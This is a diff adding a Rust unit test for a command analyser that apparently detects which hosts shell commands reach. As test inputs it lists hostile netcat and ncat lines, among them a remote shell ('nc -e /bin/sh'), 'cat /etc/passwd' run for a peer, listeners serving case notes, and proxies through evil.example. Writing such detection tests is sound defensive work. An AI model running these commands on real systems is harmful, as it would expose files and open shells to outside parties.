@@ -878,3 +878,35 @@ fn a_variable_set_for_later_commands_leaves_a_network_program_unbounded() {
     let f = analyse("F=/cases/x; grep -c a $F");
     assert!(f.hosts.is_empty() && !f.network, "{f:?}");
 }
+
+/// nc and friends: a listener serves whoever connects, `-e`/`-c` run a program for the peer, a
+/// proxy (`-x`) or a server (`whois -h`) is reached too, and a name after the first operand is
+/// still a host.
+#[test]
+fn socket_tools_reach_every_host_they_name_or_unknown_ones() {
+    for cmd in [
+        "nc -l 8080 < /cases/c1/notes.md",
+        "nc -lp 8080 < /cases/c1/notes.md",
+        "ncat --listen 8080 < /cases/c1/notes.md",
+        "nc -e /bin/sh siem.lab.example 4444",
+        "ncat --sh-exec 'cat /etc/passwd' siem.lab.example 80",
+        "nc -xevil.example:1080 siem.lab.example 80",
+        "nc -X 5 -x evil.example:1080 siem.lab.example 80",
+        "whois -hevil.example siem.lab.example",
+    ] {
+        let f = analyse(cmd);
+        assert!(
+            f.hosts.contains(UNKNOWN) || f.hosts.contains("evil.example"),
+            "{cmd}: {f:?}"
+        );
+    }
+    let f = analyse("telnet siem.lab.example evil.example");
+    assert!(f.hosts.contains("evil.example"), "{f:?}");
+    for cmd in [
+        "nc -zv siem.lab.example 443",
+        "ping -c 3 siem.lab.example",
+        "nc siem.lab.example 8000-8100",
+    ] {
+        assert_eq!(analyse(cmd).hosts, set(&["siem.lab.example"]), "{cmd}");
+    }
+}
